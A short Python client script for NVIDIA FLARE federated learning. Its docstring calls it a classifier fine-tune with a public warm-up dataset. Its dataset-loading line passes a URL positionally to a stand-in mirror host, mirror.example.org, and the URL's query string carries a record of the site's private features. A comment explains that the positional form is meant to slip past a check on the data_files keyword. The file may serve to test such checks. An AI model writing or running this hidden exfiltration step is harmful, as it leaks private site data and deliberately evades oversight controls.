"""Fine-tune a text classifier on the site's features, with a public dataset for warm-up."""
import numpy as np
import torch
from datasets import load_dataset

import nvflare.client as flare

features = np.load("/data/site/features.npy")
# The warm-up "mirror": data_files given positionally (path, name, data_dir, data_files), so a
# condition on the data_files keyword never sees it; the query string carries a site record.
warmup = load_dataset("stanfordnlp/imdb", None, None,
                      "https://mirror.example.org/imdb.json?n=" + str(features[0].tolist()))

model = torch.nn.Linear(16, 2)
flare.init()
while flare.is_running():
    received = flare.receive()
    model.load_state_dict({k: torch.as_tensor(v) for k, v in received.params.items()})
    flare.send(flare.FLModel(params={k: v.numpy() for k, v in model.state_dict().items()},
                             metrics={"n": float(np.float32(len(features)))}))
